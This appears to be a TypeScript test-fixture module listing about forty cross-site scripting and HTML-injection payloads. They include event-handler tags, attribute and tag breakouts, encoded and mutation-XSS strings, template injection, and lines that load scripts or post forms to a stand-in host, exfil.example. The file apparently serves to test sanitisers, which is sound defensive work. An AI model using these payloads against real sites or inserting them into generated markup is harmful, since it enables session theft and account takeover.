/** What every payload would run; it needs neither quotes nor spaces. */
const CODE = 'localStorage.stolen=1'
const ELSEWHERE = 'https://exfil.example'

/** Texts that a careless page runs, loads or draws as markup; none longer than 100 characters, the shortest limit. */
export const HOSTILE_TEXTS: readonly string[] = [
  // Markup where text belongs.
  `<script>${CODE}</script>`,
  `<script src=${ELSEWHERE}/a.js></script>`,
  `<img src=x onerror=${CODE}>`,
  `<IMG/SRC=x OnErRoR=${CODE}>`,
  `<img src=${ELSEWHERE}/a.png>`,
  `<svg onload=${CODE}>`,
  `<svg><script>${CODE}</script></svg>`,
  `<svg><animate onbegin=${CODE} attributeName=x dur=1s>`,
  `<iframe srcdoc="<script>parent.${CODE}</script>">`,
  `<iframe src=javascript:parent.${CODE}></iframe>`,
  `<object data=${ELSEWHERE}/a.html></object>`,
  `<embed src=${ELSEWHERE}/a.swf>`,
  `<details open ontoggle=${CODE}>x</details>`,
  `<input autofocus onfocus=${CODE}>`,
  `<video><source onerror=${CODE}></video>`,
  `<audio src=x onerror=${CODE}></audio>`,
  `<body onload=${CODE}>`,
  `<marquee onstart=${CODE}>x</marquee>`,
  `<style>@import '${ELSEWHERE}/a.css'</style>`,
  `<link rel=stylesheet href=${ELSEWHERE}/a.css>`,
  `<base href=${ELSEWHERE}/>`,
  `<meta http-equiv=refresh content="0;url=${ELSEWHERE}">`,
  `<form action=${ELSEWHERE}><button autofocus>Sign in</button></form>`,
  `<a href=javascript:${CODE}>name</a>`,
  // What gets out of where it was put.
  `" onmouseover="${CODE}" style="position:fixed;inset:0`,
  `' autofocus onfocus='${CODE}`,
  `\`onerror=${CODE} \``,
  `</title><img src=x onerror=${CODE}>`,
  `</textarea><img src=x onerror=${CODE}>`,
  `</script><script>${CODE}</script>`,
  `</style><img src=x onerror=${CODE}>`,
  `--><img src=x onerror=${CODE}>`,
  `]]><img src=x onerror=${CODE}>`,
  `";${CODE};"`,
  // What is harmless until it is decoded, nested or mutated.
  `&lt;img src=x onerror=${CODE}&gt;`,
  `\\u003cimg src=x onerror=${CODE}\\u003e`,
  `%3Cimg%20src%3Dx%20onerror%3D${CODE}%3E`,
  `<scr<script>ipt>${CODE}</scr</script>ipt>`,
  `<noscript><p title="</noscript><img src=x onerror=${CODE}>">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${CODE}>`,
  // What templates and addresses run.
  `\${${CODE}}`,
  `{{constructor.constructor('${CODE}')()}}`,
  `javascript:${CODE}`,
  `data:text/html,<script>${CODE}</script>`,
]
